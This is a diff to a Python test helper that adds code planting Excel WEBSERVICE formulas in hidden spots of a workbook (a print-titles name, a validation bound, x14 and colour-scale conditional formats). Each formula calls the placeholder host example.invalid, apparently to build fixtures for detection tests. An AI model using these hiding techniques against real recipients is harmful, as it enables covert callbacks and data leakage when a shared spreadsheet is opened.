@@ -138,6 +138,49 @@ def rewrite_zip(path: Path, out: Path | None = None, **changes) -> Path:
     return out
 
 
+# Places outside the cells where a sender's workbook can carry a formula that runs on opening,
+# each planted by rewriting the XML the way Excel writes it. Every formula calls
+# example.invalid/<place>, so a test can see where it went.
+def _layout_name(xml: bytes) -> bytes:
+    return re.sub(rb'(<definedName[^>]*name="_xlnm.Print_Titles"[^>]*>)[^<]*(</definedName>)', lambda m: m.group(1) + b'WEBSERVICE("http://example.invalid/titel")' + m.group(2), xml, count=1)
+
+
+def _second_bound(xml: bytes) -> bytes:
+    return xml.replace(b"</formula1>", b'</formula1><formula2>LEN(WEBSERVICE("http://example.invalid/graense"))</formula2>', 1)
+
+
+_X14_RULE = (
+    b'<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
+    b'<x14:conditionalFormattings><x14:conditionalFormatting xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
+    b'<x14:cfRule type="expression" priority="90" id="{00000000-0000-0000-0000-000000000007}">'
+    b'<xm:f>WEBSERVICE("http://example.invalid/x14")&lt;&gt;""</xm:f><x14:dxf><fill><patternFill><bgColor rgb="FFFF0000"/></patternFill></fill></x14:dxf>'
+    b"</x14:cfRule><xm:sqref>H1:H2</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>"
+)
+_COLOUR_SCALE = (
+    b'<conditionalFormatting sqref="H1:H2"><cfRule type="colorScale" priority="91"><colorScale>'
+    b'<cfvo type="formula" val="LEN(WEBSERVICE(&quot;http://example.invalid/skala&quot;))"/><cfvo type="max"/>'
+    b'<color rgb="FFFF0000"/><color rgb="FF00FF00"/></colorScale></cfRule></conditionalFormatting>'
+)
+HIDING_PLACES = {
+    "titel": ("xl/workbook.xml", _layout_name),
+    "graense": ("xl/worksheets/sheet1.xml", _second_bound),
+    "x14": ("xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"</worksheet>", _X14_RULE + b"</worksheet>")),
+    "skala": ("xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"<dataValidations", _COLOUR_SCALE + b"<dataValidations", 1)),
+}
+
+
+def hide_formula(path: Path, place: str, out: Path | None = None) -> Path:
+    """Plant a formula in one of `HIDING_PLACES`: a print-titles name, a dropdown's second bound, an x14 rule, a colour scale."""
+    member, change = HIDING_PLACES[place]
+
+    def planted(xml: bytes) -> bytes:
+        new = change(xml)
+        assert new != xml, f"{member} has no place for '{place}'"
+        return new
+
+    return rewrite_zip(path, out, **{member.replace("/", "__").replace(".", "_dot_"): planted})
+
+
 def set_meta(path: Path, out: Path | None = None, sheet: bool = True, properties: bool = True, **values) -> Path:
     """Change the template's identity in the hidden sheet and/or the custom properties."""
     out = out or path
